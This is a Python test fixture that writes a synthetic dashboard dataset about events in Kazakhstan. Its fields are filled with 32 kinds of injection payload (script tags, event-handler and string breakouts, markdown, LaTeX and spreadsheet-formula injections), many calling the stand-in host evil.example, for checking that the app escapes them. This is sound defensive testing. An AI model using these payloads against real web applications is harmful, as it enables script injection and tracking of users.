"""A data set with an injection payload of each of 32 kinds in every text field (issue 18).

Each payload would, if it were rendered instead of shown as text, either fetch something from
``evil.example`` (an image, a style sheet, a frame: a tracking beacon and a broken offline
promise) or run script that sets ``window.__pwned``. The browser test records every request
and reads ``__pwned`` in the page and the map; the AppTest tests read the markdown the app
sends. Each URL carries the payload's number (``/p07``), so a failure says which kind got
through.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

from dashboard.synthetic import copy_reference_files
from geo.csvrows import parse_sources
from geo.schema import EVENT_COLUMNS, FIGURE_COLUMNS, STATE_COLUMNS

EVIL = "http://evil.example"
PWN = "window.__pwned=1"

# (kind, text): 32 kinds, the ones the probe of issue 18 tried.
PAYLOADS: tuple[tuple[str, str], ...] = (
    ("script tag", f"<script>{PWN}</script>"),
    ("script src, mixed case", f"<ScRiPt src={EVIL}/p02.js></sCrIpT>"),
    ("img onerror", f'<img src=x onerror="{PWN}">'),
    ("svg onload", f'<svg onload="{PWN}"></svg>'),
    ("remote img", f'<img src="{EVIL}/p05.png">'),
    ("img srcset", f'<img srcset="{EVIL}/p06.png 1x">'),
    ("iframe", f'<iframe src="{EVIL}/p07"></iframe>'),
    ("javascript: link", f'<a href="javascript:{PWN}">click</a>'),
    ("markdown image", f"![x]({EVIL}/p09.png)"),
    ("markdown link to javascript:", f"[x](javascript:{PWN})"),
    ("markdown reference image", f"![x][r] [r]: {EVIL}/p11.png"),
    ("markdown autolink", f"<{EVIL}/p12>"),
    ("style import", f"<style>@import url({EVIL}/p13.css);</style>"),
    ("link stylesheet", f"<link rel=stylesheet href={EVIL}/p14.css>"),
    ("inline style url", f'<div style="background:url({EVIL}/p15.png)">x</div>'),
    ("closing tags then img", f"</div></span></textarea></title></script><img src={EVIL}/p16.png>"),
    ("double-quote attribute breakout", f'" onmouseover="{PWN}" x="'),
    ("single-quote attribute breakout", f"' onfocus='{PWN}' autofocus x='"),
    ("JS string breakout", f"';{PWN};//"),
    ("JS template literal", f"${{{PWN}}}`;{PWN};`"),
    ("JSON breakout", f'"}}];{PWN};//'),
    ("LaTeX href", f"$\\href{{{EVIL}/p22}}{{x}}$"),
    ("LaTeX maths", "$\\foo$ costs $5 and $10"),
    ("Streamlit colour and icon", ":red[pwned] :material/warning: **bold** _em_"),
    ("entity-encoded script", f"&lt;script&gt;{PWN}&lt;/script&gt;"),
    ("HTML comment breakout", f"--><img src={EVIL}/p26.png><!--"),
    ("object and embed", f'<object data="{EVIL}/p27"></object><embed src="{EVIL}/p27e">'),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/p28">'),
    ("base href", f'<base href="{EVIL}/p29/">'),
    (
        "video poster and audio",
        f'<video poster="{EVIL}/p30.png"></video><audio src="{EVIL}/p30.mp3">',
    ),
    ("data: URI frame", f'<iframe src="data:text/html,<script>parent.{PWN}</script>"></iframe>'),
    ("spreadsheet formula", f'=HYPERLINK("{EVIL}/p32","x")'),
)
assert len(PAYLOADS) == 32

# Places near which the payload records sit (lat, lon), so they land in Kazakhstan.
CITIES = ((43.238, 76.945), (43.341, 52.862), (43.651, 51.197), (51.169, 71.449))
FIRST_DAY = dt.date(2022, 1, 2)
DAYS = 8
# The place name the dashboard's "Articles about a place" is tested with (issue 18.1).
MARKDOWN_PLACE = PAYLOADS[8][1]


def _publisher(text: str) -> str:
    """The payload as a source's publisher where the sources format allows it."""
    for candidate in (text, text.replace("<", "‹").replace(">", "›").replace(" ; ", " ")):
        try:
            parse_sources(f"{candidate} <https://example.org/a>")
            return candidate
        except ValueError:
            continue
    return "Publisher"


def _sources(i: int, text: str) -> str:
    # A URL may hold quotes: its way into an href attribute must stay escaped too.
    return (
        f"{_publisher(text)} <https://example.org/p{i:02d}> ; "
        f'Wire <https://example.org/q?x="onmouseover="{PWN}"&p={i:02d}>'
    )


def _write(path: Path, columns: tuple[str, ...], rows: list[dict[str, object]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(columns))
        writer.writeheader()
        for row in rows:
            writer.writerow({c: row.get(c, "") for c in columns})


def write_payload_dataset(folder: Path) -> Path:
    """events, states, figures and articles with every payload in every text field."""
    folder = Path(folder)
    copy_reference_files(folder)
    events, states, figures = [], [], []
    for i, (_kind, text) in enumerate(PAYLOADS, start=1):
        lat, lon = CITIES[i % len(CITIES)]
        lat, lon = lat + 0.02 * (i // 4), lon + 0.02 * (i % 4)
        day = FIRST_DAY + dt.timedelta(days=i % DAYS)
        layer = ("protests", "clashes", "other")[i % 3]
        events.append(
            {
                "id": f"E{i:02d} {text}",
                "date": day.isoformat(),
                "layer": layer,
                "event_type": text,
                "sub_event_type": text,
                "place": text,
                "lat": f"{lat:.4f}",
                "lon": f"{lon:.4f}",
                "fatalities": i % 4,
                "detained": i,
                "count_note": text,
                "actor1": text,
                "actor2": text,
                "description": text,
                "sources": _sources(i, text),
            }
        )
        states.append(
            {
                "id": f"S{i:02d} {text}",
                "layer": ("troops", "infrastructure")[i % 2],
                "subject": f"{text} #{i}",
                "status": ("deployed", "closed")[i % 2],
                "valid_from": day.isoformat(),
                "place": text,
                "lat": f"{lat + 0.01:.4f}",
                "lon": f"{lon + 0.01:.4f}",
                "troops": 100 + i if i % 2 == 0 else "",
                "actor": text,
                "count_note": text,
                "description": text,
                "sources": _sources(i, text),
            }
        )
        figures.append(
            {
                "id": f"F{i:02d} {text}",
                "date": day.isoformat(),
                "metric": ("deaths", "detained", "injured")[i % 3],
                "value": 10 * i,
                "qualifier": ("exact", "at least")[i % 2],
                "part": text,
                "reported_by": text,
                "certainty": ("reported", "official claim", "retracted")[i % 3],
                "note": text,
                "sources": _sources(i, text),
            }
        )
    # One record at a place the gazetteer knows, so the articles (which mention Almaty) show.
    events.append({**events[0], "id": "E00 Almaty", "place": "Almaty", "date": "2022-01-03"})
    _write(folder / "events.csv", EVENT_COLUMNS, events)
    _write(folder / "states.csv", STATE_COLUMNS, states)
    _write(folder / "figures.csv", FIGURE_COLUMNS, figures)
    articles = folder / "articles"
    articles.mkdir(exist_ok=True)
    for i, (_kind, text) in enumerate(PAYLOADS, start=1):
        one_line = " ".join(text.split())
        (articles / f"2022-01-{2 + i % DAYS:02d}-payload-{i:02d}.txt").write_text(
            f"title: {one_line}\ndate: 2022-01-{2 + i % DAYS:02d}\npublisher: {one_line}\n"
            f"url: https://example.org/article/{i:02d}\n---\n"
            f"Crowds gathered in Almaty. {text}\n\n{text} near Almaty airport.\n",
            encoding="utf-8",
        )
    return folder


def write_bad_layer_dataset(folder: Path) -> Path:
    """A data folder whose events.csv has the markdown image payload in a ``layer`` cell."""
    folder = write_payload_dataset(folder)
    lines = (folder / "events.csv").read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = next(csv.reader([lines[1]]))
    cells[header.index("layer")] = MARKDOWN_PLACE
    out = [lines[0], _csv_line(cells), *lines[2:]]
    (folder / "events.csv").write_text("\n".join(out) + "\n", encoding="utf-8")
    return folder


def _csv_line(cells: list[str]) -> str:
    import io

    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="").writerow(cells)
    return buffer.getvalue()
